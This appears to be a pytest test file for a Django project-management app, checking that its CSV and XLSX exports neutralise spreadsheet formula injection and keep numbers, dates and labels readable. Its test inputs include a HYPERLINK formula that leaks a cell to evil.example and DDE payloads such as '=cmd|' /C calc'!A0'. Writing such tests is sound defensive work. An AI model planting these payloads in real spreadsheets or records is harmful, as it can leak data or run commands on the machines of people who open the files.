"""Every CSV and XLSX download is safe and readable (accord.core.exports): a hostile name
stays text, numbers and dates stay typed, codes become labels, records their names, and
CSV opens in Excel on Windows (UTF-8 with BOM, "°C" intact)."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from accord.core import exports
from accord.delays.models import Delay
from accord.planning.models import Task
from accord.projects import services as project_services
from accord.projects.models import Project
from accord.proposals.models import Rfp
from tests.conftest import client_for
from tests.test_planning import _plan
from tests.test_proposal_outcomes import lose, sent_with_timeline
from tests.test_proposals import bd_blake
from tests.test_risks import make_risk

HOSTILE = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for the batch record")'
BOM = b"\xef\xbb\xbf"


def _csv(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response.content.startswith(BOM)  # Excel on Windows reads it as UTF-8
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def _column(rows: list[list[str]], heading: str) -> list[str]:
    index = rows[0].index(heading)
    return [row[index] for row in rows[1:]]


@pytest.mark.parametrize("persona", ["pm_alice", "sponsor_a_manager"])
def test_a_hostile_task_name_stays_text_in_the_plan_workbook(world, persona):
    _plan(world)
    task = Task.objects.filter(project=world.project_a).order_by("uid").first()
    Task.objects.filter(pk=task.pk).update(name=HOSTILE)
    response = client_for(getattr(world, persona)).get(
        reverse("planning:plan_export", args=[world.project_a.pk, "xlsx"])
    )
    sheet = load_workbook(io.BytesIO(response.content)).active
    headings = [cell.value for cell in sheet[1]]
    cell = sheet.cell(row=2, column=headings.index("Task") + 1)
    assert cell.value == HOSTILE and cell.data_type == "s"  # text, not a formula
    assert cell.quotePrefix  # and stays text if someone edits the cell
    # Numbers and dates are typed cells; codes and booleans read as words.
    row = {heading: sheet.cell(row=2, column=i + 1) for i, heading in enumerate(headings)}
    assert row["Duration (wd)"].data_type == "n"
    assert row["Early start"].is_date and row["Early start"].value.date() == dt.date(2026, 1, 5)
    assert row["Kind"].value == "Task" and row["Critical"].value in ("Yes", "No")


def test_the_projects_csv_neutralizes_formulas_and_shows_labels_and_names(world):
    Project.objects.filter(pk=world.project_a.pk).update(
        title="+41 61 000 00 00 stability at 25 °C", molecule="@SUM(A1:A9)"
    )
    rows = _csv(client_for(world.pm_alice).get(reverse("projects:export"), {"q": "aur"}))
    aurora = next(row for row in rows[1:] if row[0] == "AUR-101-TT")
    record = dict(zip(rows[0], aurora, strict=True))
    assert record["Title"] == "'+41 61 000 00 00 stability at 25 °C"  # "°C" survives
    assert record["Molecule"] == "'@SUM(A1:A9)"
    assert record["Sponsor"] == "Aurora Therapeutics"
    assert record["Site"] == "Visp API plant (VSP)"  # the record's name, not its code
    project = Project.objects.get(pk=world.project_a.pk)
    assert record["Modality"] == project.get_modality_display() != project.modality
    assert record["Status"] == project.get_status_display()


def test_the_delays_csv_neutralizes_formulas_and_keeps_numbers(world):
    delay = Delay.objects.filter(project=world.project_a).first()
    Delay.objects.filter(pk=delay.pk).update(title="-2+3 days (cmd|' /C calc'!A0)")
    rows = _csv(client_for(world.pm_alice).get(reverse("delays:export", args=[world.project_a.pk])))
    titles = _column(rows, "Title")
    assert "'-2+3 days (cmd|' /C calc'!A0)" in titles
    assert all(days.isdigit() for days in _column(rows, "Days lost"))  # numbers stay numbers
    assert all(dt.date.fromisoformat(day) for day in _column(rows, "Occurred on"))
    assert set(_column(rows, "Cause")) <= {label for _, label in Delay.Cause.choices}


def test_the_risks_csv_shows_labels_and_yes_or_no(world):
    make_risk(world, title="=cmd|' /C calc'!A0", shared_with_sponsor=True)
    rows = _csv(client_for(world.pm_alice).get(reverse("risks:export", args=[world.project_b.pk])))
    assert "'=cmd|' /C calc'!A0" in _column(rows, "Title")
    assert set(_column(rows, "Shared with sponsor")) <= {"Yes", "No"}
    assert set(_column(rows, "Likelihood means")) <= {
        "Rare",
        "Unlikely",
        "Possible",
        "Likely",
        "Almost certain",
    }


def test_the_analytics_exports_show_labels_and_keep_a_hostile_sponsor_name_text(world):
    revision = sent_with_timeline(world, received_on=dt.date(2026, 1, 12))
    lose(world, revision.proposal.rfp, reasons=["capacity"], follow_up_on=None)
    world.sponsor_a.name = "=1+1 Therapeutics"
    world.sponsor_a.save(update_fields=["name"])
    client = client_for(bd_blake(world))
    rows = _csv(client.get(reverse("proposals:analytics_csv")))
    record = dict(zip(rows[0], rows[1], strict=True))
    assert record["Sponsor"] == "'=1+1 Therapeutics"
    assert record["Status"] == Rfp.Status.LOST.label
    assert record["Loss reasons"] == "Capacity conflict with prior commitments"
    book = load_workbook(io.BytesIO(client.get(reverse("proposals:analytics_xlsx")).content))
    sponsor = book["RFPs"].cell(row=2, column=2)
    assert sponsor.value == "=1+1 Therapeutics" and sponsor.data_type == "s"
    assert book["RFPs"].cell(row=2, column=7).is_date  # Received


def test_the_audit_history_csv_is_safe_too(world):
    world.sponsor_b.name = "@cmd Pharma"
    world.sponsor_b.save(update_fields=["name"])
    project = project_services.project_create(
        actor=world.pm_alice,
        sponsor=world.sponsor_b,
        code="BOR-730",
        title="=HYPERLINK(1)",
        modality="small_molecule",
        phase="clinical",
        site=world.site,
    )
    url = reverse("audit:history_export", args=["projects.project", project.pk, "csv"])
    rows = _csv(client_for(world.pm_alice).get(url))
    assert "'@cmd Pharma" in _column(rows, "parent_label")
    assert not any(value.startswith(exports.FORMULA_PREFIXES) for row in rows for value in row)


def test_the_helper_reads_values_as_a_person_would():
    assert exports.human(True) == "Yes" and exports.human(None) == ""
    assert exports.human(Delay.Cause.EQUIPMENT_FAILURE) == Delay.Cause.EQUIPMENT_FAILURE.label
    assert exports.human(-3) == -3  # a number, never text
    assert exports.human(["a", "b"]) == "a; b"
    buffer = io.StringIO()
    exports.csv_write(buffer, ["Value"], [[-3], ["-3"], [dt.date(2026, 3, 1)], ["\tx"]])
    assert buffer.getvalue() == "\ufeffValue\r\n-3\r\n'-3\r\n2026-03-01\r\n'\tx\r\n"
